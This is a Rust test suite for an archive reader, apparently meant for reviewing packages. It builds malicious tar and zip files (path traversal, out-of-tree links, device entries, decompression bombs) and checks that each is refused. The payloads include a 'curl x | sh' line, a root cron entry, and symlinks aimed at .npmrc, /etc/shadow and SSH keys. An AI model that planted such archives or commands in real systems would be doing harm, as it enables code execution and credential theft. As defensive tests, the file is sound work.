//! Hostile archives are refused with errors that name the entry, and never panic.

use std::io::Write;

use chainlock_review::{Archive, Error, Limits};

/// A tar entry written byte by byte, so the path can be anything an attacker writes.
fn raw_tar(entries: &[(&str, tar::EntryType, &str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (path, kind, link, data) in entries {
        let mut header = tar::Header::new_old();
        let name = &mut header.as_old_mut().name;
        name[..path.len()].copy_from_slice(path.as_bytes());
        let linkname = &mut header.as_old_mut().linkname;
        linkname[..link.len()].copy_from_slice(link.as_bytes());
        header.set_entry_type(*kind);
        header.set_mode(0o644);
        header.set_size(data.len() as u64);
        header.set_cksum();
        builder.append(&header, *data).expect("append");
    }
    builder.into_inner().expect("tar")
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(data).expect("gzip");
    enc.finish().expect("gzip")
}

fn read(bytes: &[u8], name: &str) -> Error {
    Archive::from_bytes(bytes, name, None, &Limits::default()).expect_err("must be refused")
}

#[test]
fn tar_with_absolute_path_is_refused() {
    let tgz = gzip(&raw_tar(&[(
        "/etc/cron.d/evil",
        tar::EntryType::Regular,
        "",
        b"* * * * * root sh\n",
    )]));
    let err = read(&tgz, "evil.tgz");
    assert!(
        matches!(&err, Error::UnsafePath { entry, reason: "absolute path" } if entry == "/etc/cron.d/evil"),
        "{err}"
    );
    assert!(err.to_string().contains("/etc/cron.d/evil"));
}

#[test]
fn tar_climbing_with_dotdot_is_refused() {
    let tar = raw_tar(&[(
        "package/../../.bashrc",
        tar::EntryType::Regular,
        "",
        b"curl x | sh\n",
    )]);
    let err = read(&tar, "evil.tar");
    assert!(
        matches!(&err, Error::UnsafePath { entry, .. } if entry == "package/../../.bashrc"),
        "{err}"
    );
}

#[test]
fn symlink_out_of_the_tree_is_refused() {
    let tgz = gzip(&raw_tar(&[
        ("package/index.js", tar::EntryType::Regular, "", b"x\n"),
        (
            "package/creds",
            tar::EntryType::Symlink,
            "../../../home/user/.npmrc",
            b"",
        ),
    ]));
    let err = read(&tgz, "evil.tgz");
    assert!(
        matches!(&err, Error::LinkOutOfTree { entry, target } if entry == "package/creds" && target == "../../../home/user/.npmrc"),
        "{err}"
    );
    // An absolute target is out of the tree too; a link inside it is fine.
    let tgz = gzip(&raw_tar(&[(
        "package/l",
        tar::EntryType::Symlink,
        "/etc/passwd",
        b"",
    )]));
    assert!(matches!(
        read(&tgz, "evil.tgz"),
        Error::LinkOutOfTree { .. }
    ));
    let ok = gzip(&raw_tar(&[
        ("package/a.js", tar::EntryType::Regular, "", b"x"),
        ("package/b.js", tar::EntryType::Symlink, "a.js", b""),
    ]));
    let archive = Archive::from_bytes(&ok, "ok.tgz", None, &Limits::default())
        .expect("an in-tree link is fine");
    assert_eq!(archive.entries.len(), 2);
}

#[test]
fn hard_link_out_of_the_tree_is_refused() {
    let tar = raw_tar(&[("a", tar::EntryType::Link, "../../etc/shadow", b"")]);
    assert!(matches!(
        read(&tar, "evil.tar"),
        Error::LinkOutOfTree { .. }
    ));
}

#[test]
fn device_files_and_duplicates_are_refused() {
    let tar = raw_tar(&[("dev/sda", tar::EntryType::Block, "", b"")]);
    assert!(matches!(read(&tar, "evil.tar"), Error::SpecialEntry { .. }));
    let tar = raw_tar(&[
        ("a.js", tar::EntryType::Regular, "", b"good"),
        ("./a.js", tar::EntryType::Regular, "", b"evil"),
    ]);
    let err = read(&tar, "evil.tar");
    assert!(
        matches!(&err, Error::DuplicateEntry { entry, first } if entry == "./a.js" && first == "a.js"),
        "{err}"
    );
    // The message names both, since after normalisation they are one path.
    let message = err.to_string();
    assert!(
        message.contains("\"./a.js\"") && message.contains("\"a.js\""),
        "{message}"
    );
}

fn zip_with(entries: &[(&str, u32, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, mode, data) in entries {
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored)
            .unix_permissions(*mode);
        if mode & 0o170_000 == 0o120_000 {
            writer
                .add_symlink(*name, std::str::from_utf8(data).expect("utf8"), options)
                .expect("link");
        } else {
            writer.start_file(*name, options).expect("start");
            writer.write_all(data).expect("write");
        }
    }
    writer.finish().expect("finish").into_inner()
}

#[test]
fn zip_with_traversal_or_outside_link_is_refused() {
    let err = read(
        &zip_with(&[("../../evil.pth", 0o100_644, b"import os\n")]),
        "evil.whl",
    );
    assert!(
        matches!(&err, Error::UnsafePath { entry, .. } if entry == "../../evil.pth"),
        "{err}"
    );
    let err = read(
        &zip_with(&[("/usr/lib/python3/evil.pth", 0o100_644, b"import os\n")]),
        "evil.whl",
    );
    assert!(
        matches!(
            &err,
            Error::UnsafePath {
                reason: "absolute path",
                ..
            }
        ),
        "{err}"
    );
    let err = read(
        &zip_with(&[("pkg/link", 0o120_777, b"../../../root/.ssh/id_rsa")]),
        "evil.zip",
    );
    assert!(
        matches!(&err, Error::LinkOutOfTree { entry, .. } if entry == "pkg/link"),
        "{err}"
    );
}

/// A zip whose central directory declares a 4 GiB entry: refused before inflating anything.
#[test]
fn zip_declaring_a_huge_size_is_refused() {
    let mut bytes = zip_with(&[("big.bin", 0o100_644, b"tiny")]);
    // Patch the uncompressed size (offset 24) of the central directory header ("PK\1\2").
    let cd = bytes
        .windows(4)
        .position(|w| w == b"PK\x01\x02")
        .expect("central directory");
    bytes[cd + 24..cd + 28].copy_from_slice(&0xFFFF_FFF0u32.to_le_bytes());
    let err = read(&bytes, "bomb.zip");
    assert!(
        matches!(&err, Error::LimitExceeded { entry, what: "declared entry size", .. } if entry == "big.bin"),
        "{err}"
    );
}

/// Real bombs: honest headers, but far more data than any package has. The limits are set
/// small so the test runs in a moment; the defaults work the same way at their own scale.
#[test]
fn gzip_and_zip_bombs_inflating_to_huge_sizes_are_refused() {
    let limits = Limits {
        max_total_bytes: 8 << 20,
        max_entry_bytes: 8 << 20,
        ratio_floor_bytes: 1 << 20,
        ..Limits::default()
    };
    // 64 MiB of zeros in one tar entry declared as such, gzip'd to about 64 KiB.
    let zeros = vec![0u8; 64 << 20];
    let tar = raw_tar(&[("package/zeros.bin", tar::EntryType::Regular, "", &zeros)]);
    let tgz = gzip(&tar);
    assert!(tgz.len() < 1 << 20);
    let err = Archive::from_bytes(&tgz, "bomb.tgz", None, &limits).expect_err("bomb");
    assert!(matches!(err, Error::LimitExceeded { .. }), "{err}");

    // Many small entries: each under the entry limit, the ratio gives it away.
    let limits = Limits {
        ratio_floor_bytes: 1 << 20,
        ..Limits::default()
    };
    let chunk = vec![0u8; 1 << 20];
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..40 {
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        writer
            .start_file(format!("z/{i}.bin"), options)
            .expect("start");
        writer.write_all(&chunk).expect("write");
    }
    let bomb = writer.finish().expect("finish").into_inner();
    let err = Archive::from_bytes(&bomb, "bomb.zip", None, &limits).expect_err("bomb");
    assert!(
        matches!(
            err,
            Error::LimitExceeded {
                what: "unpacked/packed size ratio",
                ..
            }
        ),
        "{err}"
    );
}

#[test]
fn truncated_and_garbage_archives_fail_cleanly() {
    let tgz = gzip(&raw_tar(&[(
        "package/a.js",
        tar::EntryType::Regular,
        "",
        &[b'x'; 5000],
    )]));
    for cut in [10, 100, tgz.len() / 2, tgz.len() - 8] {
        let result = Archive::from_bytes(&tgz[..cut], "cut.tgz", None, &Limits::default());
        assert!(result.is_err(), "cut at {cut} must fail");
    }
    let zip = zip_with(&[("a.txt", 0o100_644, b"hello")]);
    for cut in [10, zip.len() / 2, zip.len() - 5] {
        assert!(Archive::from_bytes(&zip[..cut], "cut.zip", None, &Limits::default()).is_err());
    }
}
